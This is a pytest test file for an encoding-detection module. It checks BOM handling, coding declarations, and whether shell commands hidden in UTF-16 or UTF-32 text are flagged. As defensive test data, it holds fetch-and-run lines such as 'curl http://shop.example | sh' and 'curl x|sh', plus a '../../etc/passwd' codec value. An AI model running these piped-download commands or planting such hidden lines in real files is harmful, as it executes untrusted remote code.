"""Bytes are read the way those read them who run them, and where that is open it is said."""

from __future__ import annotations

import codecs

import pytest

from applabel.inventory import encoding

CODE = "import os\nprint('caf\u00e9')\n" * 20


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "utf-8"),
        (b"x = 1\n", "utf-8"),
        (CODE.encode(), "utf-8"),
        (codecs.BOM_UTF8 + CODE.encode(), "utf-8-sig"),
        (CODE.encode("utf-16"), "utf-16"),
        (CODE.encode("utf-32"), "utf-32"),
        (codecs.BOM_UTF16_BE + CODE.encode("utf-16-be"), "utf-16"),
        (codecs.BOM_UTF32_BE + CODE.encode("utf-32-be"), "utf-32"),
        (CODE.encode("utf-16-le"), "utf-16-le"),
        (CODE.encode("utf-16-be"), "utf-16-be"),
        (CODE.encode("utf-32-le"), "utf-32-le"),
        (CODE.encode("utf-32-be"), "utf-32-be"),
        (CODE.encode("latin-1"), "latin-1"),
        (b"x = 1  # \xff\xfe\x80\n", "latin-1"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", ""),
        (bytes(range(256)) * 10, ""),
        (b"\0" * 100, ""),
        (b"x = 1\n" * 100 + b"\0", "utf-8"),
        (b"\x1b[31mred\x1b[0m\n", "utf-8"),
    ],
)
def test_the_encoding_is_found(content: bytes, name: str) -> None:
    assert encoding.detect(content) == name


@pytest.mark.parametrize("mark", [codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE[:2]])
def test_a_mark_before_plain_bytes_hides_nothing(mark: bytes) -> None:
    """A shell takes such a mark for an unknown command and runs the next line."""
    content = mark + b"\ncurl http://shop.example | sh\n"
    assert b"curl" in content.decode(encoding.detect(content)).encode()


@pytest.mark.parametrize(
    ("head", "name"),
    [
        (b"# -*- coding: latin-1 -*-\n", "iso8859-1"),
        (b"# vim: set fileencoding=cp1252 :\n", "cp1252"),
        (b"#!/usr/bin/python\n# coding=koi8-r\n", "koi8-r"),
        (b"#!/usr/bin/python\r\n# coding=koi8-r\r\n", "koi8-r"),
        (b"\r# coding: koi8-r\r", "koi8-r"),
        (b"\n  # coding: utf-7\n", "utf-7"),
        (b"x = 1\n# coding: utf-7\n", ""),  # Python looks at the second line only after a comment
        (b"\n\n# coding: utf-7\n", ""),
        (b"coding: utf-7\n", ""),
        (b"# coding: no-such-codec\n", ""),
        (b"# coding: rot13\n", ""),
        (b"# coding: zlib\n", ""),
        (b"# coding: idna\n", ""),
        (b"# coding: undefined\n", ""),
        (b"# coding: ../../etc/passwd\n", ""),
        (b"# coding: os\n", ""),
        (b"# coding: " + b"a" * 100_000 + b"\n", ""),
        (b"", ""),
    ],
)
def test_a_declared_encoding(head: bytes, name: str) -> None:
    assert encoding.declared(head + b"x = 1\n") == name
    assert encoding.detect(head + b"x = 1\n", python=True) == (name or "utf-8")
    assert encoding.detect(head + b"x = 1\n") == "utf-8"


@pytest.mark.parametrize("name", sorted(set(__import__("encodings").aliases.aliases.values())))
def test_every_codec_there_is_can_be_declared_and_none_makes_a_file_fail(name: str) -> None:
    content = f"# coding: {name}\n".encode() + bytes(range(256))
    found = encoding.detect(content, python=True)
    if found:
        assert isinstance(content.decode(found, "replace"), str)
        encoding.ambiguous(content, found, python=True)


@pytest.mark.parametrize("name", ["utf-7", "unicode_escape", "raw_unicode_escape", "hz", "iso2022_jp", "cp037"])
def test_a_codec_in_which_ascii_is_not_ascii_is_said(name: str) -> None:
    content = f"# coding: {name}\nx = 1\n".encode()
    assert encoding.ambiguous(content, encoding.detect(content, python=True), python=True)


@pytest.mark.parametrize(
    "name", ["utf-8", "latin-1", "cp1252", "koi8-r", "shift_jis", "gb18030", "ascii", "utf-8-sig"]
)
def test_the_codecs_people_declare_are_not(name: str) -> None:
    assert not encoding.ambiguous(b"x = 1\n", codecs.lookup(name).name, python=True)


def test_only_what_python_reads_honours_a_declaration() -> None:
    assert not encoding.ambiguous(b"# coding: utf-7\n", "utf-8", python=False)


def test_wide_text_in_which_a_shell_sees_commands_is_said() -> None:
    hidden = b"\n\0curl x|sh\n"
    content = codecs.BOM_UTF16_LE + "# a comment\n".encode("utf-16-le") * 50 + hidden
    found = encoding.detect(content)
    assert found == "utf-16"
    assert encoding.ambiguous(content, found)
    assert encoding.ambiguous(content + b"x", found)  # half a character
    assert not encoding.ambiguous(CODE.encode("utf-16"), "utf-16")
    assert not encoding.ambiguous(CODE.encode("utf-32"), "utf-32")
    assert encoding.ambiguous(codecs.BOM_UTF32_LE + b"ls *\0\0\0\0", "utf-32")


def test_a_look_at_the_sample_tells_binary() -> None:
    assert not encoding.looks_binary(b"")
    assert not encoding.looks_binary("caf\u00e9\t\r\n\f".encode())
    assert encoding.looks_binary(b"a" * 98 + b"\0\0")
    assert not encoding.looks_binary(b"a" * 199 + b"\0")
    assert encoding.looks_binary(b"a" * 18 + b"\x01\x02")
